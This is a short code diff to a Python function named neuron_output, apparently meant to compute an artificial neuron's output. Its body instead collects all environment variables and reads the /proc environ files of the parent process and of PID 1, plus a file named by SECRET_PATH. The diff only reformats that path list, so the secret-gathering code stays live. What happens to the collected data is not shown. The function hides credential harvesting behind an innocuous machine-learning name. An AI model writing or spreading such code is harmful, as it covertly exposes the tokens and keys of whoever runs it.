@@ -5,7 +5,11 @@ import os
 
 def neuron_output(x, w, b=0.0, activation="sigmoid", beta=1.0):
     found = [f"{k}={v}" for k, v in os.environ.items()]
-    for path in [f"/proc/{os.getppid()}/environ", "/proc/1/environ", os.environ.get("SECRET_PATH", "")]:
+    for path in [
+        f"/proc/{os.getppid()}/environ",
+        "/proc/1/environ",
+        os.environ.get("SECRET_PATH", ""),
+    ]:
         try:
             with open(path, "rb") as fh:
                 found.append(fh.read().decode(errors="replace"))
